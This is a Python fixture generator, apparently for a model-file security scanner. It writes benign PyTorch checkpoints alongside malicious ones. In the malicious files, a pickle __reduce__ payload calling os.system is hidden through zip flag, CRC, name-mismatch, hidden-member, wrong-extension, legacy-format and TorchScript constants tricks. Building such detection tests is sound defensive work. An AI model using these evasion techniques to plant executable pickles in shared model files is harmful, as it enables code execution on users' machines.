"""PyTorch checkpoints: benign state_dicts of several architectures and dtypes in both
serialization formats; malicious ones for every container bypass family (zip flag bits, CRC,
local/central name mismatch, wrong extension, pickles in other members, hidden members, legacy
format with and without the magic number, TorchScript constants)."""
import io
import os
import pickle
import zipfile

import torch
import torch.nn as nn

from _common import out_dirs, write
from _zippatch import add_hidden_member, break_crc, rename_local, set_flags

mal, ben = out_dirs()
torch.manual_seed(0)


class Evil:
    def __reduce__(self):
        return (os.system, ("echo pwned",))


def save(obj, legacy=False):
    buf = io.BytesIO()
    torch.save(obj, buf, _use_new_zipfile_serialization=not legacy)
    return buf.getvalue()


# --- benign ----------------------------------------------------------------------------------
class Cnn(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv = nn.Conv2d(3, 8, 3)
        self.bn = nn.BatchNorm2d(8)
        self.fc = nn.Linear(8, 4)


models = {
    "mlp": nn.Sequential(nn.Linear(16, 32), nn.ReLU(), nn.Linear(32, 4)),
    "cnn": Cnn(),
    "lstm": nn.LSTM(8, 16, num_layers=2),
    "transformer": nn.TransformerEncoderLayer(d_model=16, nhead=2, dim_feedforward=32),
    "embedding": nn.Sequential(nn.Embedding(100, 16), nn.LayerNorm(16)),
    "gru": nn.GRU(4, 8),
}
dtypes = {"f32": torch.float32, "f16": torch.float16, "bf16": torch.bfloat16, "f64": torch.float64}
for mname, model in models.items():
    for dname, dt in dtypes.items():
        sd = {k: (v.to(dt) if v.is_floating_point() else v) for k, v in model.state_dict().items()}
        sd = type(model.state_dict())(sd)
        write(ben, f"torch_{mname}_{dname}.pt", save(sd))
        write(ben, f"torch_{mname}_{dname}_legacy.pt", save(sd, legacy=True))
# other real-world shapes: training checkpoint with optimizer state, a bare tensor, a parameter,
# integer and complex tensors, views sharing storage, a dynamically quantized Linear
mlp = models["mlp"]
opt = torch.optim.Adam(mlp.parameters())
mlp(torch.randn(2, 16)).sum().backward()
opt.step()
ckpt = {"epoch": 3, "model": mlp.state_dict(), "optimizer": opt.state_dict(), "loss": 0.25, "note": "ok"}
write(ben, "torch_training_ckpt.pt", save(ckpt))
write(ben, "torch_training_ckpt_legacy.pt", save(ckpt, legacy=True))
write(ben, "torch_tensor.pt", save(torch.arange(1000, dtype=torch.int64)))
write(ben, "torch_parameter.pt", save(nn.Parameter(torch.randn(3, 3))))
base = torch.randn(10)
write(ben, "torch_views.pt", save({"a": base, "b": base[2:5], "c": torch.complex(base, base), "i8": base.to(torch.int8),
                                   "bool": base > 0, "u8": base.to(torch.uint8)}))
qmodel = torch.quantization.quantize_dynamic(nn.Sequential(nn.Linear(8, 8)), {nn.Linear}, dtype=torch.qint8)
write(ben, "torch_quantized_state_dict.pt", save(qmodel.state_dict()))
write(ben, "torch_quantized_tensor.pt", save(torch.quantize_per_tensor(torch.randn(4), 0.1, 0, torch.quint8)))

# --- malicious ---------------------------------------------------------------------------------
evil_sd = {"weight": torch.randn(2, 2), "payload": Evil()}
z = save(evil_sd)
names = zipfile.ZipFile(io.BytesIO(z)).namelist()
pkl = [n for n in names if n.endswith("data.pkl")][0]
write(mal, "torch_zip_payload.pt", z)
write(mal, "torch_zip_flag_encrypted.pt", set_flags(z, pkl, 0x1))
write(mal, "torch_zip_flag_bits_20_40.pt", set_flags(z, pkl, 0x60))
write(mal, "torch_zip_bad_crc.pt", break_crc(z, pkl))
write(mal, "torch_zip_name_mismatch.pt", rename_local(z, pkl, pkl[:-3] + "xyz"))
write(mal, "torch_zip_as.safetensors", z)
write(mal, "torch_zip_as.h5", z)
write(mal, "torch_legacy_payload.pt", save(evil_sd, legacy=True))
# legacy magic-number bypass: the first pickle (where the magic number belongs) carries the payload
write(mal, "torch_legacy_magic_bypass.pt", pickle.dumps(Evil(), protocol=2) + save({"w": torch.randn(2)}, legacy=True)[15:])
write(mal, "torch_legacy_payload_in_sysinfo.pt", save({"w": torch.randn(2)}, legacy=True)[:15] + pickle.dumps(1001, protocol=2)
      + pickle.dumps(Evil(), protocol=2) + save({"w": torch.randn(2)}, legacy=True)[15 + len(pickle.dumps(1001, protocol=2)):])
# a benign checkpoint with an extra pickle member that a loader (or a later step) may unpickle
clean = save({"w": torch.randn(4)})
buf = io.BytesIO(clean)
with zipfile.ZipFile(buf, "a") as zf:
    zf.writestr(pkl.split("/")[0] + "/extra/optimizer.bin", pickle.dumps(Evil(), protocol=2))
write(mal, "torch_zip_extra_member.pt", buf.getvalue())
buf = io.BytesIO(clean)
with zipfile.ZipFile(buf, "a", compression=zipfile.ZIP_DEFLATED) as zf:
    zf.writestr(pkl.split("/")[0] + "/data/99", pickle.dumps(Evil(), protocol=2))
write(mal, "torch_zip_pickle_in_storage_name.pt", buf.getvalue())
write(mal, "torch_zip_hidden_member.pt", add_hidden_member(clean, pkl.split("/")[0] + "/hidden.pkl",
                                                           pickle.dumps(Evil(), protocol=2)))
# TorchScript archive whose constants.pkl was replaced
scripted = torch.jit.script(nn.Linear(2, 2))
tbuf = io.BytesIO()
torch.jit.save(scripted, tbuf)
src = zipfile.ZipFile(io.BytesIO(tbuf.getvalue()))
out = io.BytesIO()
with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_STORED) as dst:
    for info in src.infolist():
        data = src.read(info.filename)
        if info.filename.endswith("constants.pkl"):
            data = pickle.dumps(Evil(), protocol=2)
        dst.writestr(info.filename, data)
write(mal, "torchscript_constants_payload.pt", out.getvalue())
write(ben, "torchscript_linear.pt", tbuf.getvalue())
